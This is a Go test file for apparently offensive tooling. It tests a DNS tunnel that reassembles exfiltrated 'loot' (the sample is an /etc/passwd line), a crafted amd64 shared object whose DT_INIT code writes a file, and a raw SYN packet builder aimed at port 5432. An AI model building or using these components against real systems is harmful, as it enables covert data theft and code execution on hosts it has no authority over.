package main

import (
	"bytes"
	"debug/elf"
	"encoding/hex"
	"runtime"
	"testing"

	"golang.org/x/net/dns/dnsmessage"
)

func query(t testing.TB, name string) []byte {
	t.Helper()
	m := dnsmessage.Message{Header: dnsmessage.Header{ID: 7}, Questions: []dnsmessage.Question{
		{Name: dnsmessage.MustNewName(name), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET},
	}}
	packet, err := m.Pack()
	if err != nil {
		t.Fatal(err)
	}
	return packet
}

func TestTunnelPutsPiecesTogether(t *testing.T) {
	var dns tunnel
	for _, piece := range []string{"root:x", ":0:0"} {
		answer, loot := dns.take(query(t, hex.EncodeToString([]byte(piece))+tunnelZone))
		if loot != nil {
			t.Fatalf("got %q before the end", loot)
		}
		var m dnsmessage.Message
		if err := m.Unpack(answer); err != nil || m.ID != 7 || len(m.Answers) != 1 {
			t.Errorf("got answer %+v, error %v; want one to query 7", m, err)
		}
	}
	if _, loot := dns.take(query(t, "00"+tunnelZone)); string(loot) != "root:x:0:0" {
		t.Errorf("got %q, want what was sent", loot)
	}
	if _, loot := dns.take(query(t, "www.example.")); loot != nil {
		t.Errorf("got %q out of an ordinary name", loot)
	}
}

func FuzzTunnel(f *testing.F) {
	f.Add(query(f, "6869"+tunnelZone))
	f.Add([]byte{0, 1, 2})
	f.Fuzz(func(t *testing.T, packet []byte) {
		var dns tunnel
		for range 3 {
			dns.take(packet)
		}
		if len(dns.loot) > maxLoot {
			t.Errorf("kept %d bytes", len(dns.loot))
		}
	})
}

// TestSharedObject reads the object back as a loader would; that a loader does
// take it, test/docker/demo shows.
func TestSharedObject(t *testing.T) {
	if runtime.GOARCH != "amd64" {
		t.Skip("the machine code is for amd64 only")
	}
	code, err := writerCode("/tmp/file", "text", toCaller)
	if err != nil {
		t.Fatal(err)
	}
	object, err := elf.NewFile(bytes.NewReader(sharedObject(code)))
	if err != nil {
		t.Fatal(err)
	}
	if object.Type != elf.ET_DYN || object.Machine != elf.EM_X86_64 {
		t.Errorf("got %v for %v, want a shared object for amd64", object.Type, object.Machine)
	}
	start := make([]byte, len(code))
	if _, err := object.Progs[0].ReadAt(start, headerSize+4*segmentSize); err != nil || !bytes.Equal(start, code) {
		t.Errorf("the code is not where DT_INIT says, error %v", err)
	}
	if !bytes.Contains(code, []byte("/tmp/file\x00text")) {
		t.Error("the file's name and the text do not follow the code")
	}
}

func TestSYNHasItsChecksum(t *testing.T) {
	from, to := []byte{172, 17, 0, 2}, []byte{172, 17, 0, 3}
	segment := syn(from, to, 1024, 5432, 99)
	pseudo := append(append(append([]byte{}, from...), to...), 0, 6, 0, 20)
	// A right checksum makes the sum of everything come out as zero.
	if sum := checksum(append(pseudo, segment...)); sum != 0 {
		t.Errorf("got sum %#x, want 0", sum)
	}
}
